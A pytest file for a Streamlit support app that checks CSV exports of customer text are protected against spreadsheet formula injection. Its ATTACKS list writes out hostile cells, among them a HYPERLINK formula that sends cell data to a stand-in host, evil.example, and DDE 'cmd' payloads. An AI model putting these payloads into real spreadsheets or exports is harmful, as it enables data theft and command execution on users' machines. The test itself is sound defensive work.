"""Item 18 of issue 12: customer text exported from staff tables must not become a spreadsheet formula.

Streamlit's own table export (the CSV button on every st.dataframe) writes cells as they are: a
customer who typed `=HYPERLINK("http://evil.example?"&A1,"refund")` got a live formula in the
support lead's spreadsheet. The app now turns that export off and offers its own CSV downloads,
every cell through one helper.
"""

from __future__ import annotations

import csv
import io
import tomllib
from pathlib import Path

import pytest

from ui.export import csv_bytes, neutralize_cell

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://evil.example?"&A1,"refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_that_starts_like_a_formula_is_neutralised(cell):
    safe = neutralize_cell(cell)
    assert safe.startswith("'") and safe[1:] == cell


@pytest.mark.parametrize("value", ["Where is my parcel?", "T-3F2A", "100% sure", "a=b", 12, -3.5, None, ""])
def test_ordinary_cells_and_numbers_are_left_alone(value):
    assert neutralize_cell(value) == value


def test_the_csv_holds_every_row_with_formulas_neutralised():
    rows = [{"question": q, "count": n} for n, q in enumerate(ATTACKS, 1)] + [{"question": "Hi, I'm Amina", "count": -1}]
    text = csv_bytes(rows).decode("utf-8-sig")
    read = list(csv.DictReader(io.StringIO(text)))
    assert [r["question"] for r in read] == [f"'{q}" for q in ATTACKS] + ["Hi, I'm Amina"]
    assert read[-1]["count"] == "-1"  # numbers stay numbers


def test_streamlits_own_table_export_is_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_every_download_in_the_ui_goes_through_the_helper():
    """Any st.download_button outside ui/export.py would bypass the neutralisation."""
    offenders = [
        p.relative_to(ROOT).as_posix() for p in (ROOT / "ui").rglob("*.py")
        if p.name != "export.py" and ("download_button" in p.read_text(encoding="utf-8")
                                      or ".to_csv(" in p.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _queue_page(summary: str) -> None:
    from datetime import UTC, datetime
    from types import SimpleNamespace

    import streamlit as st

    from ui.views import handoffs

    captured = st.session_state.setdefault("captured", [])
    real = st.download_button

    def recording(label, data, *args, **kwargs):
        captured.append(data)
        return real(label, data, *args, **kwargs)

    st.download_button = recording
    try:
        from assistant.tickets import QueuePage

        now = datetime.now(UTC)
        ticket = SimpleNamespace(
            ticket_id="T-1", status="open", priority="high", frustration_peak=0.5, language="en",
            reasons=("asked_for_human",), created_at=now, updated_at=now, claimed_by="", resolved_by="",
            summary=summary, active=True, confidence=0.3, transcript=(), sources=(), frustration_trajectory=(),
            ahead=0, turns_omitted=0,
        )
        page = QueuePage(entries=(ticket,), total=1, offset=0, limit=25)
        res = SimpleNamespace(tickets=SimpleNamespace(page=lambda **_: page, get=lambda _: ticket))
        st.session_state["role"] = "staff"
        handoffs.render(None, res)
    finally:
        st.download_button = real


def test_the_handoffs_queue_downloads_neutralised_csv():
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(_queue_page, args=(ATTACKS[0],), default_timeout=30).run()
    assert not at.exception, [e.value for e in at.exception]
    assert [b.label for b in at.get("download_button")] == ["Download CSV"]
    [data] = at.session_state["captured"]
    row = next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert row["summary"] == f"'{ATTACKS[0]}"
